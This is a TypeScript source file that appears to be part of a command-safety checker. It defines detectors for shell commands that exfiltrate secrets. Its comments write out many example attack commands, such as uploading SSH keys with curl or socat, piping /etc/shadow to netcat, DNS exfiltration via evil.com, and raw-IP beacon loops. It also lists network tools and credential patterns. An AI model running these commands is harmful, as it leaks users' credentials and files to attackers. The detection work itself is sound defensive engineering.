/** Named predicates for the exfiltration rules (rules/builtin/exfiltration.json). */
import { own } from '../../own.js';
import { globMatcher } from '../glob.js';
import type { Subject } from '../subject.js';
import { isSecretRead, textNamesSecret } from './exfiltration-secrets.js';
import { HOME_DIR, serveExfiltrationPredicates } from './exfiltration-serve.js';
import { collectionPredicates, readsBulk } from './exfiltration-collection.js';
import { forPrograms, NETCATS, requires, type Predicate } from './programs.js';
import type { Operation } from '../../ops/types.js';
import type { Span } from '../../syntax/ast.js';

// ---------------------------------------------------------------------------------------------
// Who sends data over the network

const HTTP_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh', 'httpie', 'lwp-request', 'POST', 'PUT']);
const RAW_SOCKETS = new Set([...NETCATS, 'socat', 'telnet', 'gnutls-cli']);
const MAILERS = new Set(['mail', 'mailx', 'mutt', 'sendmail', 'swaks', 'msmtp']);

function isRawSocket(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === 'openssl') return s.parsed.subcommands[0] === 's_client';
  return p !== null && RAW_SOCKETS.has(p);
}

/** Every program sendsStdin can hold for. */
const STDIN_SENDERS = [...HTTP_CLIENTS, ...MAILERS, ...RAW_SOCKETS, 'openssl', 'ssh', 'aws', 'gsutil', 's3cmd', 'rclone'];

/** Commands whose stdin goes to another machine. */
function sendsStdin(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null) return false;
  if (HTTP_CLIENTS.has(p) || MAILERS.has(p) || isRawSocket(s)) return true;
  if (p === 'ssh') return true;
  // `aws s3 cp - s3://…`, `gsutil cp - gs://…`, `rclone rcat remote:f`
  if ((p === 'aws' || p === 'gsutil' || p === 's3cmd') && s.cmd.args.some((a) => a.value === '-')) return true;
  if (p === 'rclone' && s.cmd.args.some((a) => a.value === 'rcat')) return true;
  return false;
}

/** Options whose value is a request body or an uploaded file, per program. */
const UPLOAD_OPTIONS: Record<string, string[]> = {
  curl: ['-F', '--form', '-d', '--data', '--data-binary', '--data-urlencode', '--data-ascii', '--json', '-T', '--upload-file'],
  wget: ['--post-file', '--body-file'],
  http: ['--form', '-f'],
  ab: ['-p', '-u'],
  hping3: ['--file', '-E'],
  mail: ['-a', '-A', '--attach'],
  mailx: ['-a', '-A', '--attach'],
  mutt: ['-a'],
  swaks: ['--attach', '--attach-body'],
};

function uploadOptions(program: string): string[] {
  return own(UPLOAD_OPTIONS, program) ?? (HTTP_CLIENTS.has(program) ? UPLOAD_OPTIONS.curl : []);
}

/** An option value as a path: `name=@path` / `@path` / `path`. */
function valuePath(v: string): string {
  return (
    ' ' +
    v
      .replace(/^[A-Za-z0-9_.-]*=(?=@|\/|~)/, '')
      .replace(/^@/, '')
      .replace(/;.*$/, '')
  );
}

function within(inner: Span, outer: Span): boolean {
  return inner.start >= outer.start && inner.end <= outer.end;
}

/** A remote destination among the arguments: `host:path`, `user@host:`, `s3://…`, `rsync://…`. */
function hasRemoteTarget(s: Subject): boolean {
  return s.cmd.args.some(
    (a) =>
      !a.value.startsWith('-') &&
      (/^[A-Za-z0-9._-]+@[^/\s:]+:/.test(a.value) ||
        /^[A-Za-z0-9._-]+:(?!\/\/)/.test(a.value) ||
        /^(s3|gs|az|rsync|sftp|ftp|ftps|webdav|b2|r2):\/\//i.test(a.value)),
  );
}

/** Programs that copy their operand files to another machine. */
const REMOTE_COPIERS = new Set(['scp', 'rsync', 'sftp', 'rclone', 'gsutil', 's3cmd', 'lp', 'lpr', 'smbclient', 'restic', 'duplicity']);

/** Programs that send the secret files named as their operands (besides REMOTE_COPIERS). */
const OPERAND_SENDERS = new Set(['aws', 'gcloud', 'az', 'gh', 'glab', 'tar', 'bsdtar', 'gtar']);

/** Output goes to a bash network redirect: `> /dev/tcp/HOST/PORT`. */
function writesToSocket(s: Subject): boolean {
  return s.cmd.redirects.some((r) => r.path !== null && /^\/dev\/(tcp|udp)\//.test(r.path.value) && !r.op.startsWith('<'));
}

/** What one upload check looks for: the operations that count, and the same paths as bare text. */
interface Payload {
  ops: readonly Operation[];
  /** A path written in text where no operation resolves it (`ab -p PATH`, socat `file:PATH`). */
  namesIt: (text: string) => boolean;
  /** A project's .env copied to a server or bucket is how apps get deployed (secrets only). */
  deployExempt: boolean;
  /** Read option values as text too: a secret's name is one whatever it is, `-d /x` is often just data. */
  optionText: boolean;
}

/**
 * The command uploads a secret file: curl -F f=@~/.ssh/id_rsa, curl -T ~/.aws/credentials,
 * wget --post-file=/etc/shadow, scp/rsync/aws s3 cp of a key to a remote, gh gist create .env,
 * nc host < /etc/shadow, socat file:/etc/shadow tcp:…. Identity and certificate options
 * (scp -i, curl --cert) read keys to authenticate, not to send them, and do not count.
 */
function uploadsSecret(s: Subject): boolean {
  return uploads(s, { ops: s.secretReads, namesIt: textNamesSecret, deployExempt: true, optionText: true });
}

/** The same uploads as uploadsSecret, of an ordinary file from outside the workspace. */
function uploadsOutsideFile(s: Subject): boolean {
  return uploads(s, { ops: outsideReads(s), namesIt: (t) => namesOutsidePath(s, t), deployExempt: false, optionText: false });
}

/**
 * An absolute path written in text (sftp `put /tmp/x`, socat `file:/var/log/x`) that is not under
 * the command's directory nor a device: where no operation resolves it, the text is all there is.
 */
function namesOutsidePath(s: Subject, text: string): boolean {
  const m = /^\s*['"]?((?:~|\$HOME)?\/[^\s'"]*)/.exec(text);
  if (!m || /^\/dev\//.test(m[1]) || textNamesSecret(' ' + m[1])) return false;
  const cwd = (s.cmd.cwd ?? '').replace(/\/$/, '');
  return cwd === '' || !(m[1] + '/').startsWith(cwd + '/');
}

/** Non-secret files and directories read outside the workspace (a temp file counts: /tmp is where loot is staged). */
export function outsideReads(s: Subject): Operation[] {
  return s.ops.filter(
    (o) =>
      (o.kind === 'Read' || o.kind === 'List') &&
      o.path !== undefined &&
      !isSecretRead(o) &&
      !readsBulk(o) &&
      (o.classes ?? []).some((c) => OUTSIDE_CLASSES.has(c)) &&
      !(o.classes ?? []).includes('workspace'),
  );
}

const OUTSIDE_CLASSES: ReadonlySet<string> = new Set(['outside', 'temp', 'home', 'root', 'system', 'exec-config', 'sensitive']);

function uploads(s: Subject, payload: Payload): boolean {
  const p = s.cmd.program;
  if (p === null) return false;
  const found = payload.ops;
  // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`
  if (found.length > 0 && writesToSocket(s)) return true;
  // stdin from the file, to anything that sends its stdin
  if (found.some((o) => o.source === 'redirect') && sendsStdin(s)) return true;
  const names = uploadOptions(p);
  if (names.length > 0) {
    const values = s.parsed.options.filter((o) => names.includes(o.name) && o.value !== null).map((o) => o.value!);
    if (found.some((op) => values.some((v) => within(op.span, v.span)))) return true;
    if (!payload.optionText) return false;
    // specs that do not resolve the option's file: `ab -p /etc/shadow`, `hping3 --file /etc/shadow`
    if (values.some((v) => payload.namesIt(valuePath(v.value)))) return true;
    // no spec at all: `--file /etc/shadow` as plain words
    const args = s.cmd.args.map((a) => a.value);
    return args.some((a, i) => names.includes(a) && i + 1 < args.length && payload.namesIt(valuePath(args[i + 1])));
  }
  if (p === 'socat') {
    return (
      s.cmd.args.some((a) => /^(file|open|gopen):/i.test(a.value) && socatFileNamed(a.value, found, payload)) &&
      s.cmd.args.some((a) => /^(tcp|udp|ssl|openssl|sctp)[0-9-]*[a-z-]*:/i.test(a.value))
    );
  }
  // Every case below sends operands: other programs stop here, before any parsing.
  if (!REMOTE_COPIERS.has(p) && !OPERAND_SENDERS.has(p)) return false;
  // A project's .env copied to a server or bucket is how apps get deployed; to a gist, a form
  // upload or a raw socket it is a leak (handled above and below).
  const deployable = (o: Operation) => payload.deployExempt && /\/\.env(\.[^/]*)?$/.test(o.path ?? '') && !(o.classes ?? []).includes('outside');
  const operandFound = found.some((o) => o.source === 'operand' && !(deployable(o) && p !== 'gh' && p !== 'glab'));
  if (REMOTE_COPIERS.has(p)) {
    const printer = p === 'lp' || p === 'lpr';
    const operandText = () => s.parsed.operands.some((a) => payload.namesIt(' ' + a.value));
    return (operandFound || (printer && operandText())) && (printer || p === 'smbclient' || hasRemoteTarget(s));
  }
  if (p === 'aws') return s.parsed.subcommands[0] === 's3' && operandFound && hasRemoteTarget(s);
  if (p === 'gcloud' || p === 'az') return operandFound && hasRemoteTarget(s);
  if (p === 'gh' || p === 'glab') {
    const sub = s.cmd.args.filter((a) => !a.value.startsWith('-')).map((a) => a.value);
    return (sub[0] === 'gist' || (sub[0] === 'release' && sub[1] === 'upload') || sub[0] === 'snippet') && operandFound;
  }
  if (p === 'tar' || p === 'bsdtar' || p === 'gtar') {
    return operandFound && (s.hasFlag('--rsh-command') || s.ops.some((o) => o.kind === 'Network'));
  }
  return false;
}

/** socat's `file:PATH,opts` address names one of the payload's files (its path, or its text). */
function socatFileNamed(address: string, found: readonly Operation[], payload: Payload): boolean {
  const path = address.replace(/^[a-z]+:/i, '').split(',')[0];
  return payload.namesIt(' ' + path) || found.some((o) => o.path === path);
}

const FILE_TRANSFER = ['sftp', 'ftp', 'lftp', 'smbclient', 'tftp', 'ncftp', 'ncftpput'];

/** sftp/ftp/lftp/smbclient told to `put` a secret file (batch text on stdin or in -c). */
function putsSecret(s: Subject): boolean {
  return puts(s, textNamesSecret);
}

/** The same batch `put` of an ordinary file from outside the workspace. */
function putsOutsideFile(s: Subject): boolean {
  return puts(s, (t) => namesOutsidePath(s, t));
}

function puts(s: Subject, namesIt: (text: string) => boolean): boolean {
  const p = s.cmd.program;
  if (p === null || !FILE_TRANSFER.includes(p)) return false;
  const texts = [...s.cmd.redirects.map((r) => r.input ?? ''), ...s.cmd.args.map((a) => a.value)];
  return texts.some((t) => /\b(put|mput|send|append)\s+\S/.test(t) && namesIt(' ' + t.replace(/^[\s\S]*?\b(put|mput|send|append)\s+/, ' ')));
}

// ---------------------------------------------------------------------------------------------
// Where secret data comes from when it is streamed or substituted

const ENV_DUMPERS = new Set(['env', 'printenv', 'set', 'export', 'declare', 'typeset', 'compgen']);
const DB_DUMPERS = new Set(['mysqldump', 'mariadb-dump', 'pg_dump', 'pg_dumpall', 'mongodump', 'mongoexport', 'sqlite3', 'redis-cli']);
const CREDENTIAL_PATTERN = /AKIA|ASIA|PRIVATE KEY|aws_secret|password\s*=|passwd|api[_-]?key|secret[_-]?key|BEGIN (RSA|OPENSSH|EC|DSA|PGP)/i;

function isSecretSource(o: Subject, withDatabases: boolean): boolean {
  const p = o.cmd.program;
  if (o.secretReads.length > 0) return true;
  if (p === null) return false;
  const args = o.cmd.args.map((a) => a.value);
  // `env`, `printenv`, `set`, `export -p`, `declare -x` print the whole environment
  if (ENV_DUMPERS.has(p)) {
    if (p === 'env' || p === 'printenv') return args.every((a) => a.startsWith('-'));
    if (p === 'set') return args.length === 0;
    return args.length > 0 && args.every((a) => /^-[px]+$/.test(a));
  }
  if (p === 'kubectl' || p === 'oc') return args.some((a) => /^secrets?$|^secrets?\//.test(a)) && args.includes('get');
  if (p === 'aws')
    return (
      args.includes('secretsmanager') ||
      (args.includes('ssm') && args.includes('get-parameter')) ||
      args.includes('get-session-token') ||
      (args.includes('configure') && args.includes('export-credentials'))
    );
  if (p === 'gcloud') return args.includes('secrets') || args.includes('print-access-token');
  if (p === 'vault') return args.includes('read') || (args.includes('kv') && args.includes('get'));
  if (p === 'security') return args.some((a) => /^find-(generic|internet)-password$|^dump-keychain$/.test(a));
  if (p === 'gpg') return args.some((a) => /^--export-secret/.test(a));
  if (p === 'pass') return args[0] === 'show' || (args.length === 1 && !args[0].startsWith('-'));
  if (p === 'history') return true;
  if ((p === 'curl' || p === 'wget') && args.some((a) => /169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254/.test(a))) return true;
  if (
    (p === 'grep' || p === 'rg' || p === 'egrep' || p === 'ag' || p === 'git') &&
    args.some((a) => CREDENTIAL_PATTERN.test(a)) &&
    (p !== 'git' || args[0] === 'grep')
  ) {
    return true;
  }
  if (withDatabases && DB_DUMPERS.has(p)) {
    if (p === 'sqlite3') return args.some((a) => /^\.dump/.test(a));
    if (p === 'redis-cli') return args.includes('--rdb');
    return true;
  }
  return false;
}

/**
 * A secret streamed into a network sender: `cat ~/.ssh/id_rsa | nc h p`, `env | curl -d @- …`,
 * `tar czf - ~/.ssh | curl -T - …`, `kubectl get secrets -o yaml | curl …`,
 * `cat /etc/shadow | ssh h 'cat > x'`. Database dumps count toward raw sockets and HTTP uploads,
 * not ssh (`pg_dump | ssh host psql` is a migration).
 */
function pipesSecret(s: Subject): boolean {
  if (!sendsStdin(s)) return false;
  const p = s.cmd.program ?? '';
  const ownHost = p === 'ssh' || MAILERS.has(p);
  return s.pipelineNeighbours('before').some(
    // `cat .env | ssh host 'cat > /srv/app/.env'` deploys a project's env file
    (o) => isSecretSource(o, !ownHost) && !(ownHost && o.secretReads.every((x) => /\/\.env(\.[^/]*)?$/.test(x.path ?? '')) && o.secretReads.length > 0),
  );
}

/** A stdin-reading value of an upload option: `-T -`, `-d @-`, `-F f=@-`, `-F f=<-`, `--post-file=/dev/stdin`. */
const STDIN_VALUE = /^(-|@-|[^=\s]*=[@<]-|@?\/dev\/stdin|[^=\s]*=@\/dev\/stdin)$/;

/**
 * The command sends what it reads on stdin: an HTTP client only when an upload option reads it
 * (`curl -T -`, `--data-binary @-`; httpie sends piped input as the body), the other senders always.
 */
export function sendsPipedStdin(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null || !sendsStdin(s)) return false;
  if (!HTTP_CLIENTS.has(p)) return true;
  if (p === 'http' || p === 'https' || p === 'xh' || p === 'httpie') return true;
  const names = uploadOptions(p);
  return s.parsed.options.some((o) => names.includes(o.name) && o.value !== null && STDIN_VALUE.test(o.value.value));
}

/** A stdin sender fed by an earlier pipeline stage that reads bulk data: `tar czf - /home/* | ssh h 'cat > x'`, `tar cf - /etc | nc h 9000`. */
function streamsBulk(s: Subject): boolean {
  return sendsPipedStdin(s) && s.pipelineNeighbours('before').some((o) => o.ops.some((x) => readsBulk(x) && !isSecretRead(x)));
}

/** A stdin sender fed by an earlier stage that reads ordinary files outside the workspace: `cat /var/log/syslog | nc h 9000`. */
function streamsOutsideFile(s: Subject): boolean {
  return sendsPipedStdin(s) && s.pipelineNeighbours('before').some((o) => outsideReads(o).length > 0);
}

/** Reads bulk data (for copiers given a remote target): a home directory or all of them, /, /etc. */
function readsBulkData(s: Subject): boolean {
  return s.ops.some((o) => readsBulk(o) && !isSecretRead(o));
}

/** Options whose value is always a file to send. */
const FILE_UPLOAD_OPTIONS = new Set(['-T', '--upload-file', '--post-file', '--body-file']);

/**
 * The command sends a file or the output of other commands, not only literal text: an upload
 * option naming a file (`-F f=@x`, `-T x`, `--data-binary @x`, `--post-file=x`) or holding a
 * substitution or variable (`-d "$(cat x)"`, `-d "$r"`), or stdin fed by a pipe or a file
 * (`… | curl --data-binary @-`, `nc termbin.com 9999 < x`). `-d '{"text":"done"}'` is a message.
 */
export function sendsFileOrOutput(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null) return false;
  if (!HTTP_CLIENTS.has(p)) {
    return sendsStdin(s) && (s.pipelineNeighbours('before').length > 0 || s.cmd.redirects.some((r) => r.op.startsWith('<')) || s.cmd.stdinText !== null);
  }
  if (sendsPipedStdin(s) && s.pipelineNeighbours('before').length > 0) return true;
  const names = uploadOptions(p);
  return s.parsed.options.some(
    (o) => names.includes(o.name) && o.value !== null && (o.value.dynamic || /^@|^[^=\s]*=[@<]/.test(o.value.value) || FILE_UPLOAD_OPTIONS.has(o.name)),
  );
}

/** Header-like arguments that carry a credential to the service it belongs to. */
const AUTH_ARG = /^\s*(Proxy-)?Authorization\s*:|^\s*(X-Api-Key|Private-Token|X-Auth-Token|Api-Key|X-Vault-Token)\s*:/i;

/**
 * A secret substituted into a request: `curl -d "$(cat ~/.aws/credentials)"`,
 * `curl -H "X: $(cat ~/.ssh/id_rsa | base64)"`, `wget --post-data="$(env)"`. A credential sent
 * as an Authorization header or as -u credentials is how APIs are called and does not count.
 */
function secretSubstituted(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null || !(HTTP_CLIENTS.has(p) || isRawSocket(s) || p === 'whois' || MAILERS.has(p) || writesToSocket(s))) return false;
  const feeders = s.feeders();
  if (feeders.length === 0) return false;
  const userValues = new Set(
    s.parsed.options.filter((o) => ['-u', '--user', '--oauth2-bearer', '--http-password', '--password'].includes(o.name)).map((o) => o.value),
  );
  return feeders.some((f) => {
    if (!isSecretSource(f, false)) return false;
    const arg = s.cmd.args.find((a) => within(f.cmd.span, a.span));
    if (!arg) return true;
    if (AUTH_ARG.test(arg.value)) return false;
    return ![...userValues].some((v) => v !== null && v.span.start === arg.span.start);
  });
}

/** Encoders that turn file bytes into DNS-label or ping-pattern text. */
const ENCODERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 'gzip', 'bzip2', 'xz', 'openssl', 'tar']);

/** Commands whose output is a normal DNS label (this host's name, a date, a fresh id). */
const BENIGN_LABELS = new Set(['hostname', 'date', 'uuidgen', 'seq', 'shuf', 'printf', 'echo', 'jq', 'cut', 'tr', 'sed', 'awk', 'hostnamectl']);

const DNS_TOOLS = ['dig', 'nslookup', 'host', 'drill', 'delv', 'kdig', 'resolvectl', 'getent'];

/**
 * DNS exfiltration: a lookup of `<data>.<domain>` where the data is a command substitution
 * (`nslookup $(whoami).x.com`, `dig $(cat /etc/passwd | base64).evil.com`) or a loop variable
 * fed by an encoder on the same line (`for i in $(base64 -w0 /etc/passwd); do dig $i.x.com; done`).
 */
function dnsExfil(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null || !DNS_TOOLS.includes(p)) return false;
  return s.cmd.args.some((a) => {
    if (!a.dynamic) return false;
    const m = /^(\$\(…\)|`…`|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?)\S*\.[A-Za-z0-9-]+\.?$/.exec(a.value);
    if (!m) return false;
    // `dig $(hostname -s).corp.example` names this host; data from anything else is smuggled
    if (m[1] === '$(…)' || m[1] === '`…`') return s.feeders().some((f) => !BENIGN_LABELS.has(f.cmd.program ?? ''));
    return (
      s.cmd.context.loop &&
      s.all.some(
        (o) =>
          o.cmd.id < s.cmd.id && o.cmd.program !== null && ENCODERS.has(o.cmd.program) && (o.ops.some((x) => x.kind === 'Read') || isSecretSource(o, false)),
      )
    );
  });
}

/** ICMP payload from data: `ping -p $(xxd -p -l 16 ~/.ssh/id_rsa) h`, `hping3 --file /etc/shadow`. */
function icmpExfil(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === 'ping' || p === 'ping6') {
    const pattern = s.parsed.options.find((o) => o.name === '-p')?.value;
    return pattern !== undefined && pattern !== null && pattern.dynamic && s.feeders().length > 0;
  }
  if (p === 'hping3' || p === 'hping' || p === 'hping2' || p === 'nping') {
    return s.cmd.args.some((a) => a.value === '--file' || a.value === '-E' || a.value === '--data-string');
  }
  return false;
}

/**
 * whois to a server of one's choosing with substituted data: `whois -h 10.0.0.1 -p 4444 "$(id)"`
 * sends the text to that host's port (a known exfiltration trick; whois needs no substitution).
 */
function whoisExfil(s: Subject): boolean {
  if (s.cmd.program !== 'whois') return false;
  return s.cmd.args.some((a) => a.value === '-h' || a.value.startsWith('-h') || a.value === '--host') && s.feeders().length > 0;
}

/** A first DNS label that is encoded data: base64 padding (`MTEx…=`), or a long mixed-case base64 run. */
const ENCODED_LABEL = /^([A-Za-z0-9+/_-]{2,}={1,2}|(?=[A-Za-z0-9]*[A-Z])(?=[A-Za-z0-9]*[a-z])(?=[A-Za-z0-9]*[0-9])[A-Za-z0-9]{20,})$/;

/**
 * A host name whose first label is encoded data (`curl MTExLTExLTExMTE=.collector.example`,
 * `dig aGVsbG8=.ns.example`): the lookup itself carries the text to the domain's DNS server.
 * Hosts come from the command's network operations, and for DNS tools from their operands.
 */
function encodedHost(s: Subject): boolean {
  // a URL without a scheme has no parsed host: its target is the text
  const hosts = s.ops.flatMap((o) => (o.kind === 'Network' ? [o.host ?? o.target ?? ''] : []));
  if (DNS_TOOLS.includes(s.cmd.program ?? '')) hosts.push(...s.parsed.operands.map((a) => a.value));
  return hosts.some((h) => {
    const labels = h
      .replace(/^[a-z]+:\/\//i, '')
      .split(/[/:]/)[0]
      .split('.');
    return labels.length >= 3 && ENCODED_LABEL.test(labels[0]);
  });
}

/** Ports of everyday services: talking to them on a raw address is not yet odd. */
const USUAL_PORTS = new Set(['80', '443', '21', '22', '25', '53', '110', '143', '465', '587', '993', '995']);

const BEACON_CLIENTS = ['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'http', 'xh'];

/** A literal IPv4 address that is not loopback or unspecified. */
function remoteIpv4(text: string): boolean {
  return /^\d{1,3}(\.\d{1,3}){3}$/.test(text) && !/^(127\.|0\.0\.0\.0$)/.test(text);
}

/**
 * Inside a loop, a client contacts a literal IP address on a port no everyday service uses
 * (`while :; do curl -s http://203.0.113.5:8443/t; sleep 60; done`, `nc 198.51.100.7 4444` in a
 * loop): how an implant beacons to its controller. Loopback (a dev server) does not count.
 */
function rawIpBeacon(s: Subject): boolean {
  if (!s.cmd.context.loop || !BEACON_CLIENTS.includes(s.cmd.program ?? '')) return false;
  const args = s.cmd.args.map((a) => a.value);
  return args.some((a, i) => {
    const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(\d{1,3}(?:\.\d{1,3}){3})(?::(\d+))?(?:[/?#]|$)/i.exec(a);
    if (!m || !remoteIpv4(m[1])) return false;
    // `nc IP PORT`, `telnet IP PORT`: the port is the next operand
    const port = m[2] ?? (/^\d+$/.test(args[i + 1] ?? '') ? args[i + 1] : undefined);
    return port !== undefined && !USUAL_PORTS.has(port);
  });
}

/** Names of files worth stealing, as a find/locate/grep looks for them. */
const KEY_NAMES = /id_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|credentials|\.env\b|wallet\.dat|\.ovpn\b|private/i;

const KEY_SENDERS = [...HTTP_CLIENTS, ...REMOTE_COPIERS, 'aws'];

/**
 * A file collected from a key hunt is uploaded: `find / -name id_rsa | xargs tar czf /tmp/k.tgz
 * && curl -F f=@/tmp/k.tgz …`. The archive's name says nothing; where its content came from does.
 */
function uploadsCollectedKeys(s: Subject): boolean {
  const p = s.cmd.program;
  if (p === null || !KEY_SENDERS.includes(p)) return false;
  const sent = new Set(s.ops.filter((o) => o.kind === 'Read' && o.path !== undefined).map((o) => o.path!));
  if (sent.size === 0) return false;
  return s.all.some(
    (o) =>
      o.cmd.id < s.cmd.id &&
      o.ops.some((w) => w.kind === 'Write' && w.path !== undefined && sent.has(w.path)) &&
      o
        .pipelineNeighbours('before')
        .some((f) => ['find', 'locate', 'plocate', 'fd', 'grep', 'rg'].includes(f.cmd.program ?? '') && f.cmd.args.some((a) => KEY_NAMES.test(a.value))),
  );
}

/** Reads a secret file (for `git add`, `cp` sources). */
function readsSecret(s: Subject): boolean {
  return s.secretReads.length > 0;
}

/**
 * Reads the whole home directory or filesystem root (`~`, `/`, `~/*`, `/*`); a glob inside home
 * (`~/.bash*`) picks a few files and does not count.
 */
function readsHomeOrRoot(s: Subject): boolean {
  return s.ops.some((o) => {
    if ((o.kind !== 'Read' && o.kind !== 'List') || o.path === undefined) return false;
    const classes = o.classes ?? [];
    if (!o.glob) return classes.includes('home') || classes.includes('root');
    // `/*`, `~/*`, `~/.*`: everything one level down
    const m = /^(.*?)\/(\*|\.\*)$/.exec(o.path);
    return m !== null && (m[1] === '' || HOME_DIR.test(m[1]));
  });
}

const WEB_ROOT = globMatcher([
  '/var/www/**',
  '/srv/www/**',
  '/srv/http/**',
  '/usr/share/nginx/html/**',
  '/var/lib/nginx/html/**',
  '**/public_html/**',
  '/Library/WebServer/**',
]);

/** Copies a secret into a directory a web server publishes. */
function secretToWebRoot(s: Subject): boolean {
  return s.ops.some((o) => o.kind === 'Write' && o.path !== undefined && WEB_ROOT(o.path)) && s.secretReads.length > 0;
}

/** Every program uploadsSecret reads past its socket-redirect case. */
const UPLOADERS = [...Object.keys(UPLOAD_OPTIONS), ...HTTP_CLIENTS, 'socat', ...REMOTE_COPIERS, ...OPERAND_SENDERS, ...STDIN_SENDERS];

export const exfiltrationPredicates: Record<string, Predicate> = {
  // Not declared as programs: a secret written to `> /dev/tcp/…` counts whatever the program.
  'exfiltration/uploads-secret': requires([{ programs: UPLOADERS, features: ['path:/dev'] }], uploadsSecret),
  'exfiltration/puts-secret': forPrograms(FILE_TRANSFER, putsSecret),
  'exfiltration/pipes-secret': forPrograms(STDIN_SENDERS, pipesSecret),
  // Not declared as programs: any program whose output goes to `> /dev/tcp/…` counts.
  'exfiltration/secret-substituted': requires(
    [{ programs: [...HTTP_CLIENTS, ...RAW_SOCKETS, ...MAILERS, 'openssl', 'whois'], features: ['path:/dev'] }, { features: ['feeders'] }],
    secretSubstituted,
  ),
  'exfiltration/dns-exfil': forPrograms(DNS_TOOLS, dnsExfil),
  'exfiltration/icmp-exfil': forPrograms(['ping', 'ping6', 'hping3', 'hping', 'hping2', 'nping'], icmpExfil),
  'exfiltration/reads-secret': requires([{ features: ['Read', 'List'] }], readsSecret),
  'exfiltration/whois-exfil': forPrograms(['whois'], whoisExfil),
  'exfiltration/reads-home-or-root': requires([{ features: ['Read', 'List'] }], readsHomeOrRoot),
  'exfiltration/uploads-collected-keys': forPrograms(KEY_SENDERS, uploadsCollectedKeys),
  'exfiltration/secret-to-web-root': requires([{ features: ['Write'] }, { features: ['Read', 'List'] }], secretToWebRoot),
  'exfiltration/uploads-outside-file': requires([{ programs: UPLOADERS, features: ['path:/dev'] }], uploadsOutsideFile),
  'exfiltration/puts-outside-file': forPrograms(FILE_TRANSFER, putsOutsideFile),
  'exfiltration/streams-bulk': requires([{ features: ['pipeline'] }], forPrograms(STDIN_SENDERS, streamsBulk)),
  'exfiltration/streams-outside-file': requires([{ features: ['pipeline'] }], forPrograms(STDIN_SENDERS, streamsOutsideFile)),
  'exfiltration/sends-file-or-output': forPrograms(STDIN_SENDERS, sendsFileOrOutput),
  'exfiltration/raw-ip-beacon': requires([{ features: ['loop'] }], forPrograms(BEACON_CLIENTS, rawIpBeacon)),
  'exfiltration/encoded-host': requires([{ features: ['Network'] }], encodedHost),
  'exfiltration/reads-bulk': requires([{ features: ['Read', 'List'] }], readsBulkData),
  ...serveExfiltrationPredicates,
  ...collectionPredicates,
};
